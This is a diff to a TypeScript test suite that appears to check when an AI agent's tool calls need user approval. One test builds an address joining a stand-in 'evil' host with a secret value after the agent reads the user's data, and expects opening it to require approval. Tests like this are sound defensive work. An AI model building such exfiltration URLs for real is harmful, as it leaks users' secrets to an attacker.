@@ -386,10 +386,9 @@ const more: Record<string, Scene> = {
     ],
     calls: [open(`${evil}?d=1`)],
   },
-  'an address that a statement has put together': {
-    texts: { rows: `${evil}?d=1` },
-    calls: [ownData, open(`${evil}?d=1`)].slice(1) as Call[],
-    isTainted: true,
+  'a word of the person as a whole path': {
+    ...asked('Do you know the imprint?'),
+    calls: [['read_page', { page: 'imprint' }]],
   },
   'an address within the arguments of other tools': {
     ...shown('x'),
@@ -442,6 +441,12 @@ describe('waits for approval', () => {
       calls: [...first, open(address), ['browser_navigate', { url: address }]],
     })
     expect(results.map(({ approval }) => approval)).toEqual([undefined, undefined, 'required', 'required'])
+  })
+
+  it('an address that a statement has put together', async () => {
+    const address = `${evil}?d=${secret}`
+    const { results } = await play({ texts: { rows: address }, calls: [ownData, open(address)] })
+    expect(results.map(({ approval }) => approval)).toEqual([undefined, 'required'])
   })
 
   it('an address that was refused, named by another tool', async () => {
